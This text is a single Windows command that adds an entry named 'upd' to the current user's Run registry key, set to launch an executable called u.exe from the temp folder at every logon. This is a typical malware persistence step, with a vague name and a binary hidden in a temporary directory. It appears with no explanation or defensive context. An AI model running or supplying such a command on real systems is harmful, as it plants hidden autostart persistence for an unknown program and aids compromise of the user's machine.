reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v upd /d %TEMP%\u.exe
